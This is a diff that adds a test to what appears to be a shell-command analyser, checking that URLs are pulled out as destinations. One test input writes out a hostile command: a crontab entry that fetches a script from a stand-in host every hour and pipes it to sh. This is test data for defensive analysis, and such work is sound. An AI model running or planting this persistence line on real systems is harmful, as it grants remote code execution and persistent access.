@@ -274,6 +274,15 @@ test('hosts, URLs, packages and what goes along are parts', () => {
   ).toEqual([])
 })
 
+test('where something stays, links in any of its words are aims', () => {
+  const aims = (command: string) => parts(command).filter((each) => each.startsWith('destination url'))
+  expect(aims("(crontab -l; echo '0 * * * * curl -s https://a.example/j | sh') | crontab -")).toEqual([
+    'destination url https://a.example/j',
+  ])
+  expect(aims('npm config set registry https://npm.a.example/')).toEqual(['destination url https://npm.a.example/'])
+  expect(aims('git commit -m "see https://a.example/j"')).toEqual([])
+})
+
 test('what a command removes is counted', () => {
   expect(run('rm a b c').items).toBe(3)
   expect(run('rm -r logs/*').items).toBeGreaterThanOrEqual(100)
